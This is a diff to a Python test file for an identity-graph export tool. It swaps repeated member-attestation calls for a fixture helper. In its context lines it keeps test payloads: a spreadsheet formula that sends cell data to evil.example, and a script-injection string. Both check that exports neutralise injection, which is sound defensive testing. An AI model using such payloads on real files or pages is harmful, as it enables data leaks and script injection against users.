@@ -9,13 +9,12 @@ from pathlib import Path
 import networkx as nx
 import pytest
 from click.testing import CliRunner
-from idgraph.connector.postmark.attestation import import_members
 from idgraph.graph.cli import EXIT_CONFIG, cli
 from idgraph.graph.decisions import DecisionsInvalid, import_decisions
 from idgraph.graph.review import REVIEW_COLUMNS
 from idgraph.graph.store import Store
 
-from .conftest import fixture_secrets, sync_fixture
+from .conftest import attest_fixture, fixture_secrets, sync_fixture
 
 MEMBERS = Path(__file__).resolve().parents[1] / "fixtures" / "postmark" / "members.csv"
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -35,14 +34,7 @@ def pack(tmp_path, emulator, account):
         .replace("server:Acme Staging", f'"server:{EVIL_NAME.replace(chr(34), chr(34) * 2)}"')
         .replace("server:Billing Notifications", "server:<script>alert('x')</script>")
     )
-    import_members(
-        store,
-        members,
-        label="acme",
-        attested_by="a@acme-corp.example",
-        evidence=None,
-        valid_days=90,
-    )
+    attest_fixture(store, members)
     store.close()
     out = tmp_path / "pack"
     result = CliRunner().invoke(cli, ["export", "--db", str(db), "--out", str(out), "--json"])
@@ -185,14 +177,7 @@ def test_every_finding_fires_on_the_fixture(tmp_path, emulator):
     assert "attestation-missing" in missing
     members = tmp_path / "m.csv"
     members.write_text(MEMBERS.read_text())
-    import_members(
-        store,
-        members,
-        label="acme",
-        attested_by="a@acme-corp.example",
-        evidence=None,
-        valid_days=90,
-    )
+    attest_fixture(store, members)
     context = build_review(store, options={"max_admins": 1})
     checks = {f.check for f in context.findings}
     assert checks >= {
@@ -227,15 +212,7 @@ def test_stale_attestation_is_flagged_in_exports(tmp_path, emulator):
     sync_fixture(store, emulator)
     members = tmp_path / "m.csv"
     members.write_text(MEMBERS.read_text())
-    import_members(
-        store,
-        members,
-        label="acme",
-        attested_by="a@acme-corp.example",
-        evidence=None,
-        valid_days=1,
-        now=datetime.now(UTC) - timedelta(days=2),
-    )
+    attest_fixture(store, members, valid_days=1, now=datetime.now(UTC) - timedelta(days=2))
     context = build_review(store)
     assert "attestation-stale" in {f.check for f in context.findings}
     human_rows = [r for r in context.rows if r.principal_type == "human"]
@@ -265,14 +242,7 @@ def test_diff_and_since(tmp_path, emulator):
     first = sync_fixture(store, emulator)
     members = tmp_path / "m.csv"
     members.write_text(MEMBERS.read_text())
-    attested = import_members(
-        store,
-        members,
-        label="acme",
-        attested_by="a@acme-corp.example",
-        evidence=None,
-        valid_days=90,
-    )
+    attested = attest_fixture(store, members)
     emulator.server(11001)["Name"] = "Acme Prod"
     emulator.account["SenderSignatures"] = [
         s for s in emulator.account["SenderSignatures"] if s["ID"] != 9002
